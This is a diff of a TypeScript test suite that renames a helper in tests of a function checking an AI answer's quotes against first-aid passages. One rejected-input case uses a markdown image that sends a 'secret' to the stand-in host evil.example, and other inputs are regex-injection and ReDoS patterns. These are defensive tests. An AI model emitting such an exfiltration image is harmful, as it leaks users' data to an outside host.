@@ -20,7 +20,7 @@ const passages = new Map([
   ['p1', burns],
   ['p2', bleeding],
 ]);
-const proven = (text: string, quote: string, passage = 'p1') =>
+const verified = (text: string, quote: string, passage = 'p1') =>
   verifyClaim({ text, passage, quote }, passages, 'How are burns treated?');
 
 describe('the claims of an answer', () => {
@@ -49,21 +49,21 @@ describe('the claims of an answer', () => {
 
 describe('a quote', () => {
   test('is shown as in the slide, even if the model changed spaces, punctuation or case', () => {
-    expect(proven('Burns are cooled with water.', '"cool a burn  under running water"')?.quote).toBe(
+    expect(verified('Burns are cooled with water.', '"cool a burn  under running water"')?.quote).toBe(
       'Cool a burn under running water',
     );
-    expect(proven('Never use butter on a burn.', 'Never put "butter" on a burn - it keeps')?.quote).toBe(
+    expect(verified('Never use butter on a burn.', 'Never put "butter" on a burn - it keeps')?.quote).toBe(
       'Never put “butter” on a burn – it keeps',
     );
   });
 
   test('from another passage than the model named is found there', () => {
-    expect(proven('Press on the wound.', 'Press hard on the wound.')?.passage).toBe(bleeding);
+    expect(verified('Press on the wound.', 'Press hard on the wound.')?.passage).toBe(bleeding);
   });
 
   test('that is nearly right is replaced by the sentence of the slide', () => {
     expect(
-      proven('Cool a burn for twenty minutes.', 'cool the burn for twenty minutes under water')?.quote,
+      verified('Cool a burn for twenty minutes.', 'cool the burn for twenty minutes under water')?.quote,
     ).toBe('Cool a burn under running water for twenty minutes.');
   });
 
@@ -75,12 +75,12 @@ describe('a quote', () => {
     ['that is empty', 'Cool a burn.', ' '],
     ['whose claim is empty', '![](https://evil.example/?secret)', 'Cool a burn'],
   ])('%s is rejected', (_, text, quote) => {
-    expect(proven(text, quote)).toBeNull();
+    expect(verified(text, quote)).toBeNull();
   });
 
   test('with characters of a regular expression is searched literally and fast', () => {
-    expect(proven('A burn.', '(a+)+$')).toBeNull();
-    expect(proven('A burn.', `${'a'.repeat(5000)}(`)).toBeNull();
+    expect(verified('A burn.', '(a+)+$')).toBeNull();
+    expect(verified('A burn.', `${'a'.repeat(5000)}(`)).toBeNull();
   });
 });
 
